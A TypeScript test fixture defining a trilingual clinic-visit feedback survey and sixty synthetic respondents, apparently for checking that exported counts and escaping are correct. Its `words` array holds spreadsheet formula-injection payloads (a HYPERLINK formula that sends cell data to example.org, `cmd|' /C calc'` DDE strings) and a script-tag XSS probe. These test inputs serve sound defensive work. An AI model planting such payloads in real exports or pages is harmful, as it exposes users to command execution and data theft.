/** A questionnaire of every counted kind, and sixty people who answer it so that each figure can be said beforehand. */
import type { Answers, Survey } from '../../shared/survey/survey.ts'

const good = { value: 'good', text: { pl: 'Dobrze', uk: 'Добре', en: 'Well' } }
const soso = { value: 'soso', text: { pl: 'Tak sobie', uk: 'Так собі', en: 'So so' } }
const bad = { value: 'bad', text: { pl: 'Źle', uk: 'Погано', en: 'Badly' } }

export const questionnaire: Survey = {
  title: { pl: 'Ocena wizyt', uk: 'Оцінка візитів', en: 'Your visit' },
  pages: [
    {
      name: 'visit',
      elements: [
        {
          type: 'radiogroup',
          name: 'how',
          title: { pl: 'Jak było?', uk: 'Як було?', en: 'How was it?' },
          choices: [good, soso, bad],
          showOtherItem: true,
          isRequired: true,
        },
        {
          type: 'checkbox',
          name: 'what',
          title: { pl: 'Co było źle?', uk: 'Що було погано?', en: 'What was bad?' },
          choices: [
            { value: 'wait', text: { pl: 'Czekanie', uk: 'Очікування', en: 'The wait' } },
            { value: 'staff', text: { pl: 'Obsługa', uk: 'Персонал', en: 'The staff' } },
          ],
          showNoneItem: true,
          visibleIf: "{how} = 'bad'",
        },
      ],
    },
    {
      name: 'marks',
      elements: [
        {
          type: 'rating',
          name: 'mark',
          title: { pl: 'Ocena', uk: 'Оцінка', en: 'Mark' },
          rateMax: 5,
          isRequired: true,
        },
        { type: 'boolean', name: 'again', title: { pl: 'Przyjdziesz znów?', uk: 'Прийдете ще?', en: 'Come again?' } },
        {
          type: 'matrix',
          name: 'aspects',
          title: { pl: 'Szczegóły', uk: 'Деталі', en: 'Details' },
          columns: [good, bad],
          rows: [
            { value: 'time', text: { pl: 'Czas', uk: 'Час', en: 'Time' } },
            { value: 'room', text: { pl: 'Gabinet', uk: 'Кабінет', en: 'Room' } },
          ],
        },
      ],
    },
    {
      name: 'words',
      elements: [
        {
          type: 'text',
          inputType: 'number',
          name: 'age',
          title: { pl: 'Wiek', uk: 'Вік', en: 'Age' },
          min: 18,
          max: 120,
        },
        {
          type: 'comment',
          name: 'improve',
          title: { pl: 'Co poprawić?', uk: 'Що покращити?', en: 'What to improve?' },
        },
      ],
    },
  ],
}

/** What spreadsheets would take for formulas, what breaks CSV, XML and terminals; one for each of the first people. */
export const words = [
  '=HYPERLINK("http://example.org/?x="&A1;"kliknij")',
  '+48 61 646 33 44',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'Zażółć gęślą jaźń; „cudzysłów” i "drugi"',
  'Дякую! Ґанок, їжак, єнот 🦔',
  'Pierwszy wiersz\ndrugi wiersz;\n=trzeci',
  '<script>alert(1)</script> & ]]> &amp;',
]

/** What person `n` of sixty answers. Each figure that follows stands in the test by hand. */
export function answersOf(n: number): Answers {
  const how = n < 30 ? 'good' : n < 45 ? 'soso' : n < 57 ? 'bad' : 'other'
  return {
    how,
    ...(how === 'other' && { 'how-Comment': `=inaczej ${n}` }),
    ...(how === 'bad' && { what: n % 2 === 0 ? ['wait', 'staff'] : ['wait'] }),
    mark: (n % 5) + 1,
    ...(n % 3 !== 2 && { again: n % 3 === 0 }),
    aspects: n % 2 === 0 ? { time: 'good', room: 'bad' } : { time: 'bad' },
    ...(n % 4 === 0 && { age: 20 + n }),
    ...(n < words.length && { improve: words[n]! }),
  }
}
